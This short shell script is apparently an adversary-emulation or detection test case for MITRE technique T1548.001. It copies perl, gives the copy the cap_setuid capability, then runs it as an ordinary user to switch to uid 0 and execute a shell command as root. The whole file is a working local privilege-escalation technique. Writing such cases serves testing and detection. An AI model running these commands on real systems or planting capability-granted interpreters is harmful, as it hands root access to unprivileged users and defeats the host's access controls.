# title: A user becomes root by a program that may change its user
# technique: T1548.001 T1548
# needs: setcap perl

cp "$(command -v perl)" /usr/local/bin/p5 && setcap cap_setuid+ep /usr/local/bin/p5
setpriv --reuid 1000 --regid 1000 --clear-groups /usr/local/bin/p5 -e 'use POSIX; POSIX::setuid(0); exec "/bin/sh", "-c", "id"'
